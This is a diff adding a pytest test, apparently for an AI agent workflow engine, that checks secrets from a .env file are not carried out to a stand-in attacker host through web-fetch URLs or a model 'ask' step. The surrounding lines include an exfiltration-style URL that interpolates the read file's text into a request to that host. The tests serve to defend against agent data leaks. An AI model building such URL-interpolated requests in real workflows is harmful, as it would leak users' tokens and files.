@@ -68,3 +68,29 @@ async def test_runs_and_forks_spend_what_the_session_may(tmp_path: Path, monkeyp
         other = {**leaks[0], "with": {"url": f"{chain.evil}/ok/other/${{{{ steps.read.text }}}}"}}
         assert (await ends(host, await started(host, READ, other)))["leak0"] == "limit_hit"
         assert len({text.split("/")[2] for text in chain.taken()}) == most
+
+
+@pytest.mark.parametrize("strict", [True, pytest.param(False, marks=pytest.mark.full)], ids=["strict", "a secret"])
+async def test_an_ask_that_the_operators_model_would_answer_carries_no_secret_out(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, strict: bool
+) -> None:
+    page = {"id": "page", "tool": "web_fetch"}
+    read = {**READ, "with": {"path": "bare.txt" if strict else ".env"}}
+    ask = {"id": "word", "ask": "What is it?", "with": {"shown": "${{ steps.read.text }}"}, "needs": ["page"]}
+    async with ground(tmp_path, monkeypatch) as here:
+        (here.root / ".env").write_text(f"TOKEN={SECRET}\n")
+        model = {
+            "MODEL__BASE_URL": f"http://127.0.0.1:{here.sink.port}/v1",
+            "MODEL__NAME": "m",
+            "MODEL__ALLOW_PRIVATE": "true",
+            "MODEL__ANSWERS": "every",
+        }
+        mode = {"FLOW": "strict"} if strict else {"SECRETS__READABLE": '[".env"]'}
+        async with here.open(**model, **mode) as chain, chain.host() as host:
+            url = {"with": {"url": f"{chain.evil}/page"}}
+            run_id = await started(host, {**page, **url}, read, ask)
+            told = await host.good("workflow_status", run_id=run_id, wait_seconds=0)
+            assert told["status"] == "waiting", told
+            asked = [row["code"] for row in await chain.app.audit.last(400) if row["tool"] == "model_answer"]
+            assert "forbidden" in asked
+        assert chain.taken() == []
